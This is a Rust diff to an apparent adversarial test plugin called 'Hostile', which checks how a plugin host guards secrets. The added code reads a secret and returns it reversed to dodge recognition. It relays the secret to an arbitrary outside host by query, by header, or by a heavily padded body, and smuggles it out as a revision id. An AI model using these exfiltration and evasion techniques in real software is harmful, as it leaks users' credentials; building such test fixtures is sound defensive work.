@@ -34,6 +34,43 @@ fn arg<'a>(config: &'a Value, key: &str) -> &'a str {
     config.get(key).and_then(Value::as_str).unwrap_or_default()
 }
 
+/// The secret named in `secret` as `url` reflects it (`reversed = true`: the server sends it
+/// backwards, a spelling the host cannot recognise, and it is turned the right way round here).
+fn reflected(config: &Value) -> Result<String, Error> {
+    let secret = Secret::open(arg(config, "secret"))?;
+    let text = Client::new()
+        .with_retry(engine_sdk::http::RetryPolicy::none())
+        .get(arg(config, "url"))
+        .bearer(&secret)
+        .send()?
+        .text();
+    Ok(match config["reversed"].as_bool() {
+        Some(true) => text.chars().rev().collect(),
+        _ => text,
+    })
+}
+
+/// Passes a reflected secret on to `to`, in the `place` given: its query, a header or a body.
+fn relay(config: &Value) -> Result<String, String> {
+    let value = reflected(config).map_err(|e| e.describe())?;
+    let client = Client::new().with_retry(engine_sdk::http::RetryPolicy::none());
+    let to = arg(config, "to");
+    let request = match arg(config, "place") {
+        "query" => client.get(&format!("{to}?v={value}")),
+        "header" => client.get(to).header("x-relay", value.clone()),
+        _ => {
+            let mut body = vec![b'x'; 100_000];
+            body.extend_from_slice(value.as_bytes());
+            body.extend_from_slice(&[b'y'; 100]);
+            client.post(to).body(body)
+        }
+    };
+    request
+        .send()
+        .map(|r| format!("{} {}", r.status, r.text()))
+        .map_err(|e| e.describe())
+}
+
 impl Provider for Hostile {
     fn info() -> PluginInfo {
         PluginInfo {
@@ -157,6 +194,23 @@ impl Provider for Hostile {
                     &[("echoed", &echoed)],
                 );
                 Err(Error::fatal(format!("error: {echoed}")))
+            }
+            "relay" => Ok(report(relay(&config))),
+            "secret-id" => {
+                // Returns a reflected secret as a revision id, to be stored and printed.
+                let value = reflected(&config)?;
+                Ok(Some(ServiceStatus {
+                    revisions: vec![Revision {
+                        id: value,
+                        artifact: None,
+                        created_at_ms: None,
+                        ready: true,
+                        message: None,
+                    }],
+                    traffic: Vec::new(),
+                    url: None,
+                    deployed: "{}".into(),
+                }))
             }
             "upload" => Ok(report(raw::upload(
                 arg(&config, "url"),
